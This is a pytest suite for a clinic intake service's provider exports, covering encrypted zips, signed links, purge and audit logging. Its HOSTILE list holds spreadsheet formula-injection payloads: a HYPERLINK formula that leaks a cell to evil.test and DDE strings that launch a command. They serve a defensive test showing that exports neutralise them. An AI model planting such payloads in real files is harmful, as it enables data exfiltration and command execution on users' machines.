"""Provider exports end to end: request, signed link, AES zip, files, purge, audit trail."""

from __future__ import annotations

import csv
import io
import itertools
import json
import os
import tempfile
import zipfile
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
from click.testing import CliRunner

from service.accounts import providers as provider_service
from service.archive.records import archive_record
from service.domain.passwords import export_password, today_utc
from service.errors import ConflictError
from service.exports import build as export_service
from service.exports import links, purge
from service.exports.formats import COLUMNS
from service.shell.cli import cli
from tests.support.exports import (
    csv_rows,
    download,
    export_and_fetch,
    request_export,
    todays_password,
    unzip,
    xlsx_rows,
)
from tests.support.records import PATIENT_ADDRESS, PATIENT_NAME, make_record

SUBMITTED = datetime(2026, 11, 20, 10, 30, 15, tzinfo=UTC)
KNOWN = {
    "record_id": "0123456789abcdef",
    "submitted_at": "2026-11-20T10:30:15+00:00",
    "name": "José Müller-Ñúñez",
    "date_of_birth": "1980-02-03",
    "gender": "female",
    "address": "Calle Mayor 5\n2º izquierda, Madrid",
    "medical_conditions": "Asthma; Type 2 diabetes",
    "current_medications": "Salbutamol; Metformin 500mg",
    "phone": "+34612345678",
    "language": "es",
    "consent_at": "2026-11-20T10:25:15+00:00",
    "whatsapp_user_id": "",
}
HOSTILE = (
    '=HYPERLINK("http://evil.test/?leak="&B2,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "   =1+1 Maria",
    "\u3000\uff1dSUM(1) Maria",
    "\uff20Maria Lopez",
)


@pytest.fixture
def headers(provider):
    return {"Authorization": f"Bearer {provider.token}", "User-Agent": "clinic-script/2.0"}


def archive_known(components):
    return archive_record(
        components,
        make_record(
            submitted_at=SUBMITTED,
            record_id=KNOWN["record_id"],
            name=KNOWN["name"],
            address=KNOWN["address"],
            medical_conditions=("Asthma", "Type 2 diabetes"),
            current_medications=("Salbutamol", "Metformin 500mg"),
        ),
    )


def token_of(url: str) -> str:
    return parse_qs(urlsplit(url).query)["token"][0]


# -- both formats, end to end -------------------------------------------------------------------
def test_a_csv_export_holds_every_column_of_a_known_record(client, components, headers, config):
    archive_known(components)
    response = request_export(client, headers, format="csv")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    body = response.json
    assert set(body) == {"export_id", "format", "records", "download_url", "expires_at"}
    assert (body["format"], body["records"]) == ("csv", 1)
    assert urlsplit(body["download_url"]).path == f"/exports/{body['export_id']}/download"

    reply, data = download(client, body["download_url"])
    assert reply.status_code == 200
    assert reply.mimetype == "application/zip"
    assert reply.headers["Content-Disposition"] == (
        f'attachment; filename="intakes-{body["export_id"]}.zip"'
    )
    assert reply.headers["Cache-Control"] == "no-store"
    assert int(reply.headers["Content-Length"]) == len(data)
    assert reply.headers["X-Export-Password-Date"] == today_utc().isoformat()
    name, content = unzip(data, todays_password(components.config))
    assert name == "intakes.csv"
    assert content.count(b"\r\n") == 2  # header and one row; the address's newline is quoted
    (row,) = csv_rows(content)
    assert row == {**KNOWN, "phone": "'+34612345678"}  # "+" starts a formula: neutralised


@pytest.mark.parametrize("requested", ["xlsx", "excel", "XLSX"])
def test_an_xlsx_export_holds_every_column_of_a_known_record(
    client, components, headers, config, requested
):
    archive_known(components)
    body, name, content = export_and_fetch(client, headers, config, format=requested)
    assert (body["format"], body["records"], name) == ("xlsx", 1, "intakes.xlsx")
    (row,) = xlsx_rows(content)
    assert row == {
        **KNOWN,
        "submitted_at": datetime(2026, 11, 20, 10, 30, 15),  # naive UTC: Excel has no zones
        "date_of_birth": datetime(1980, 2, 3),  # a date cell; openpyxl reads it back as datetime
        "consent_at": datetime(2026, 11, 20, 10, 25, 15),
        "whatsapp_user_id": None,  # an empty cell
    }


def test_the_zip_does_not_open_with_a_wrong_password(client, components, headers, config):
    archive_known(components)
    response = request_export(client, headers, format="csv")
    _, data = download(client, response.json["download_url"])
    yesterday = export_password(config.zip_password, today_utc() - timedelta(days=1)).password
    for wrong in ("not-the-password", yesterday):
        with pytest.raises(RuntimeError, match="[Bb]ad password"):
            unzip(data, wrong)
    with zipfile.ZipFile(io.BytesIO(data)) as plain, pytest.raises(NotImplementedError):
        # Not the weak legacy ZipCrypto: the standard library cannot read WinZip AES at all.
        plain.read("intakes.csv", pwd=todays_password(config).encode())


def test_the_exports_password_endpoint_gives_the_password_that_opens_the_zip(
    client, components, headers, config
):
    archive_known(components)
    response = request_export(client, headers, format="xlsx")
    _, data = download(client, response.json["download_url"])
    password = client.get("/exports/password", headers=headers).json["password"]
    assert unzip(data, password)[0] == "intakes.xlsx"


def test_an_export_built_before_midnight_opens_with_that_days_password(
    client, components, provider, config
):
    archive_known(components)
    yesterday = today_utc() - timedelta(days=1)
    built_at = datetime(yesterday.year, yesterday.month, yesterday.day, 23, 59, tzinfo=UTC)
    created = export_service.create_export(
        components, provider.provider.provider_id, "csv", now=built_at
    )
    token, _ = links.sign_download_token(  # its own link expired overnight
        config.secret_key,
        created.export_id,
        provider.provider.provider_id,
        datetime.now(UTC),
        config.export_link_ttl_seconds,
    )
    reply, data = download(client, f"/exports/{created.export_id}/download?token={token}")
    assert reply.headers["X-Export-Password-Date"] == yesterday.isoformat()
    assert unzip(data, export_password(config.zip_password, yesterday).password)[0]
    with pytest.raises(RuntimeError, match="[Bb]ad password"):
        unzip(data, todays_password(config))


# -- filters and empty exports ------------------------------------------------------------------
def test_date_filters_are_inclusive_utc_days_on_submitted_at(client, components, headers, config):
    times = [
        datetime(2026, 10, 31, 23, 59, 59, tzinfo=UTC),
        datetime(2026, 11, 1, 0, 0, 0, tzinfo=UTC),
        datetime(2026, 11, 2, 23, 59, 59, 999999, tzinfo=UTC),
        datetime(2026, 11, 3, 0, 0, 0, tzinfo=UTC),
    ]
    ids = [archive_record(components, make_record(submitted_at=at)).record_id for at in times]
    cases = [
        ({"from": "2026-11-01", "to": "2026-11-02"}, ids[1:3]),
        ({"from": "2026-11-02"}, ids[2:]),
        ({"to": "2026-11-01"}, ids[:2]),
        ({"from": "2026-11-03", "to": "2026-11-03"}, ids[3:]),
        ({}, ids),
        ({"from": "2027-01-01"}, []),
    ]
    for params, expected in cases:
        body, _, content = export_and_fetch(client, headers, config, format="csv", **params)
        assert [row["record_id"] for row in csv_rows(content)] == expected, params
        assert body["records"] == len(expected)


def test_an_empty_archive_gives_a_header_only_file_in_both_formats(client, headers, config):
    body, _, content = export_and_fetch(client, headers, config, format="csv")
    assert body["records"] == 0
    assert content == b"\xef\xbb\xbf" + ",".join(COLUMNS).encode() + b"\r\n"
    body, _, content = export_and_fetch(client, headers, config, format="xlsx")
    assert body["records"] == 0
    assert xlsx_rows(content) == []


def test_a_missing_format_means_csv(client, headers, config):
    body, name, _ = export_and_fetch(client, headers, config)
    assert (body["format"], name) == ("csv", "intakes.csv")


@pytest.mark.parametrize(
    ("params", "parameter"),
    [
        ({"format": "pdf"}, "format"),
        ({"format": "csv", "from": "2026-13-01"}, "from"),
        ({"format": "csv", "from": "20261101"}, "from"),
        ({"format": "csv", "to": "yesterday"}, "to"),
        ({"format": "csv", "to": "2026-11-31"}, "to"),
        ({"format": "csv", "from": "2026-11-02", "to": "2026-11-01"}, "from"),
    ],
)
def test_a_bad_parameter_gets_400_naming_it(client, components, headers, params, parameter):
    response = request_export(client, headers, **params)
    assert response.status_code == 400
    assert response.json["error"]["code"] == "invalid_input"
    assert response.json["error"]["message"].startswith(parameter + " ")
    assert list(components.repos.bucket.list_blobs(prefix="exports/")) == []
    (event,) = components.repos.audit.list(action="export.create")
    assert (event.outcome, event.details["reason"]) == ("failure", "invalid_input")


@pytest.mark.parametrize("authorization", [None, "Bearer ipt_0123456789abcdef_wrong"])
def test_exports_need_a_provider_token(client, components, authorization):
    archive_known(components)
    headers = {"Authorization": authorization} if authorization else {}
    response = request_export(client, headers, format="csv")
    assert response.status_code == 401
    assert response.json["error"]["code"] == "unauthorized"
    assert list(components.repos.bucket.list_blobs(prefix="exports/")) == []


# -- formula injection --------------------------------------------------------------------------
def test_hostile_patient_text_is_inert_in_both_formats(client, components, headers, config):
    for index, value in enumerate(HOSTILE):
        archive_record(
            components,
            make_record(
                submitted_at=SUBMITTED + timedelta(seconds=index),
                name=value,
                address=value + " street",
                medical_conditions=(value,),
                current_medications=("Aspirin", value),
            ),
        )
    _, _, content = export_and_fetch(client, headers, config, format="csv")
    rows = csv_rows(content)
    for row, value in zip(rows, HOSTILE, strict=True):
        assert row["name"] == "'" + value
        assert row["address"] == "'" + value + " street"
        assert row["medical_conditions"] == "'" + value
        # A list item is a cell of its own where Excel splits on ";": inert too, `'` before
        # its trigger (after the item's own leading blanks).
        blanks = len(value) - len(value.lstrip())
        assert row["current_medications"] == "Aspirin; " + value[:blanks] + "'" + value[blanks:]
        for cell in row.values():
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "\uff1d", "\uff20"))
    # Read as Excel does in a locale whose list separator is ";".
    semicolon_rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";")
    for cell in itertools.chain.from_iterable(semicolon_rows):
        assert not cell.lstrip().startswith(("=", "+", "-", "@", "\uff1d", "\uff20"))

    _, _, content = export_and_fetch(client, headers, config, format="xlsx")
    for row, value in zip(xlsx_rows(content), HOSTILE, strict=True):  # xlsx_rows: no formulas
        assert row["name"] == value  # kept as typed, stored as a string cell
        assert row["medical_conditions"] == value


# -- signed links -------------------------------------------------------------------------------
def test_a_tampered_link_gets_403(client, components, headers):
    archive_known(components)
    url = request_export(client, headers, format="csv").json["download_url"]
    token = token_of(url)
    flipped = token[:-3] + ("A" if token[-3] != "A" else "B") + token[-2:]
    for bad in (url.replace(token, flipped), url.replace(token, token + "x")):
        response = client.get(bad)
        assert response.status_code == 403
        assert response.json["error"]["code"] == "permission_denied"
    assert client.get(url.split("?")[0]).status_code == 403  # no token at all


def test_a_link_for_another_export_gets_403(client, components, headers):
    first = request_export(client, headers, format="csv").json
    second = request_export(client, headers, format="csv").json
    swapped = f"/exports/{first['export_id']}/download?token={token_of(second['download_url'])}"
    assert client.get(swapped).status_code == 403


def test_an_expired_link_gets_410(client, components, headers, config, provider):
    export_id = request_export(client, headers, format="csv").json["export_id"]
    issued = datetime.now(UTC) - timedelta(seconds=config.export_link_ttl_seconds + 5)
    token, expires_at = links.sign_download_token(
        config.secret_key,
        export_id,
        provider.provider.provider_id,
        issued,
        config.export_link_ttl_seconds,
    )
    assert expires_at < datetime.now(UTC)
    response = client.get(f"/exports/{export_id}/download", query_string={"token": token})
    assert response.status_code == 410
    assert response.json["error"]["code"] == "gone"


def test_the_link_expires_after_the_configured_lifetime(client, headers, config):
    before = datetime.now(UTC).replace(microsecond=0)
    body = request_export(client, headers, format="csv").json
    expires_at = datetime.fromisoformat(body["expires_at"])
    ttl = timedelta(seconds=config.export_link_ttl_seconds)
    assert before + ttl <= expires_at <= datetime.now(UTC) + ttl
    token = token_of(body["download_url"])
    just_before = expires_at - timedelta(seconds=1)
    just_after = expires_at + timedelta(seconds=1)
    ttl_seconds = config.export_link_ttl_seconds
    assert links.read_download_token(config.secret_key, token, ttl_seconds, just_before)
    with pytest.raises(links.GoneError):
        links.read_download_token(config.secret_key, token, ttl_seconds, just_after)


def test_a_link_signed_with_another_key_gets_403(client, headers, config, provider):
    export_id = request_export(client, headers, format="csv").json["export_id"]
    token, _ = links.sign_download_token(
        "another-secret-key-0000000000000000",
        export_id,
        provider.provider.provider_id,
        datetime.now(UTC),
        900,
    )
    assert client.get(f"/exports/{export_id}/download?token={token}").status_code == 403


def test_a_validly_signed_link_to_an_unknown_export_gets_404(client, config, provider):
    export_id = "0" * 32
    token, _ = links.sign_download_token(
        config.secret_key, export_id, provider.provider.provider_id, datetime.now(UTC), 900
    )
    response = client.get(f"/exports/{export_id}/download?token={token}")
    assert response.status_code == 404
    assert response.json["error"]["code"] == "not_found"


def test_a_revoked_providers_link_gets_403(client, components, headers, provider):
    url = request_export(client, headers, format="csv").json["download_url"]
    provider_service.revoke_provider(components.repos.providers, provider.provider.provider_id)
    response = client.get(url)
    assert response.status_code == 403
    assert "no longer active" in response.json["error"]["message"]


def test_a_purged_export_gets_410(client, components, headers):
    url = request_export(client, headers, format="csv").json["download_url"]
    report = purge.purge_exports(components, now=datetime.now(UTC) + timedelta(days=2))
    assert (report.exports, report.orphans) == (1, 0)
    assert client.get(url).status_code == 410


def test_a_zip_gone_from_the_bucket_gets_410(client, components, headers):
    body = request_export(client, headers, format="csv").json
    components.repos.bucket.blob(f"exports/{body['export_id']}.zip").delete()
    assert client.get(body["download_url"]).status_code == 410


# -- storage, purge and audit -------------------------------------------------------------------
def test_the_export_document_records_the_request_without_patient_data(
    client, components, headers, provider
):
    archive_known(components)
    body = request_export(client, headers, format="xlsx", **{"from": "2026-11-01"}).json
    document = components.repos.firestore.collection("exports").document(body["export_id"])
    stored = document.get().to_dict()
    blob = components.repos.bucket.get_blob(f"exports/{body['export_id']}.zip")
    assert stored["provider_id"] == provider.provider.provider_id
    assert stored["format"] == "xlsx"
    assert stored["filters"] == {"from": "2026-11-01", "to": None}
    assert stored["records"] == 1
    assert stored["password_date"] == today_utc().isoformat()
    assert stored["object"] == f"exports/{body['export_id']}.zip"
    assert stored["size_bytes"] == blob.size
    assert stored["status"] == "ready"
    text = json.dumps(stored, default=str)
    for secret in (KNOWN["name"], "Madrid", "34612345678", token_of(body["download_url"])):
        assert secret not in text


def test_every_creation_and_download_is_audited_without_phi_or_token(
    client, components, headers, provider
):
    archive_known(components)
    body = request_export(client, headers, format="csv", **{"to": "2026-12-31"}).json
    url = body["download_url"]
    client.get(url, headers={"User-Agent": "browser/1.0"})
    client.get(url.replace(token_of(url), token_of(url)[:-2] + "zz"))
    provider_id = provider.provider.provider_id

    (created,) = components.repos.audit.list(action="export.create")
    assert (created.outcome, created.actor, created.user_agent) == (
        "success",
        provider_id,
        "clinic-script/2.0",
    )
    assert created.ip == "127.0.0.1"
    assert created.details["export_id"] == body["export_id"]
    assert (created.details["format"], created.details["records"]) == ("csv", 1)
    assert (created.details["from"], created.details["to"]) == (None, "2026-12-31")

    good, bad = components.repos.audit.list(action="export.download")
    assert (good.outcome, good.actor, good.user_agent) == ("success", provider_id, "browser/1.0")
    assert good.details["export_id"] == body["export_id"]
    assert (bad.outcome, bad.details["reason"]) == ("failure", "permission_denied")
    stored = [
        doc.to_dict() for doc in components.repos.firestore.collection("audit_events").stream()
    ]
    text = json.dumps(stored, default=str)
    for secret in (KNOWN["name"], PATIENT_NAME, PATIENT_ADDRESS, "Madrid", "34612345678"):
        assert secret not in text
    assert token_of(url) not in text
    assert token_of(url)[:20] not in text


def test_a_failed_download_is_audited_with_its_reason(client, components, config, provider):
    token, _ = links.sign_download_token(
        config.secret_key, "f" * 32, provider.provider.provider_id, datetime.now(UTC), 900
    )
    client.get(f"/exports/{'f' * 32}/download?token={token}")
    client.get("/exports/not-an-id/download?token=garbage")
    unknown, garbage = components.repos.audit.list(action="export.download")
    assert (unknown.outcome, unknown.details["reason"]) == ("failure", "not_found")
    assert unknown.actor == provider.provider.provider_id
    assert (garbage.outcome, garbage.details["reason"]) == ("failure", "permission_denied")
    assert garbage.details["export_id"] is None  # a malformed path id is not recorded


def test_an_export_stops_at_a_record_that_fails_its_integrity_check(client, components, headers):
    entry = archive_known(components)
    blob = components.repos.bucket.blob(entry.object_name)
    data = bytearray(blob.download_as_bytes())
    data[-1] ^= 1
    blob.upload_from_string(bytes(data))
    response = request_export(client, headers, format="csv")
    assert response.status_code == 500
    assert response.json["error"]["code"] == "record_integrity"
    assert list(components.repos.bucket.list_blobs(prefix="exports/")) == []
    (event,) = components.repos.audit.list(action="export.create")
    assert (event.outcome, event.details["reason"]) == ("failure", "record_integrity")


def test_purge_deletes_old_zips_marks_their_exports_and_keeps_recent_ones(
    client, components, headers
):
    old = request_export(client, headers, format="csv").json
    later = datetime.now(UTC) + timedelta(hours=30)
    recent = export_service.create_export(
        components, "0123456789abcdef", "csv", now=later - timedelta(hours=1)
    )
    report = purge.purge_exports(components, now=later)
    assert (report.exports, report.orphans) == (1, 0)
    exports = components.repos.exports
    assert exports.get(old["export_id"]).status == "purged"
    assert exports.get(old["export_id"]).purged_at is not None
    assert exports.get(recent.export_id).status == "ready"
    names = [blob.name for blob in components.repos.bucket.list_blobs(prefix="exports/")]
    assert names == [f"exports/{recent.export_id}.zip"]
    assert purge.purge_exports(components, now=later).exports == 0
    (event,) = components.repos.audit.list(action="export.purge")
    assert event.details["export_id"] == old["export_id"]


def test_cli_purge_removes_zips_and_orphans(client, components, headers):
    body = request_export(client, headers, format="csv").json
    components.repos.bucket.blob("exports/orphan.zip").upload_from_string(b"half-done")
    runner = CliRunner()
    kept = runner.invoke(cli, ["exports", "purge"], obj=components)
    assert kept.exit_code == 0, kept.output
    assert kept.output.strip() == "purged: 0  orphans deleted: 0"
    result = runner.invoke(cli, ["exports", "purge", "--older-than-hours", "0"], obj=components)
    assert result.exit_code == 0, result.output
    assert result.output.strip() == "purged: 1  orphans deleted: 1"
    assert list(components.repos.bucket.list_blobs(prefix="exports/")) == []
    assert components.repos.exports.get(body["export_id"]).status == "purged"


def test_a_stored_zip_streams_back_in_chunks_intact(components):
    payload = os.urandom(2 * 1024 * 1024 + 12345)  # more than two read chunks
    path = Path(tempfile.mkdtemp()) / "export.zip"
    path.write_bytes(payload)
    object_name, size = components.repos.exports.store_zip("a" * 32, path)
    assert (object_name, size) == (f"exports/{'a' * 32}.zip", len(payload))
    stream = components.repos.exports.open_zip(object_name)
    chunks = list(stream.chunks)
    assert stream.size == len(payload)
    assert len(chunks) == 3
    assert b"".join(chunks) == payload
    with pytest.raises(ConflictError):
        components.repos.exports.store_zip("a" * 32, path)  # never overwritten


def test_many_records_export_in_submission_order(client, components, headers, config):
    records = [make_record(submitted_at=SUBMITTED + timedelta(seconds=i)) for i in range(120)]
    for record in reversed(records):
        archive_record(components, record)
    body, _, content = export_and_fetch(client, headers, config, format="csv")
    rows = csv_rows(content)
    assert body["records"] == len(rows) == 120
    assert [row["record_id"] for row in rows] == [record.record_id for record in records]
    assert date.fromisoformat(rows[0]["date_of_birth"]) == date(1980, 2, 3)
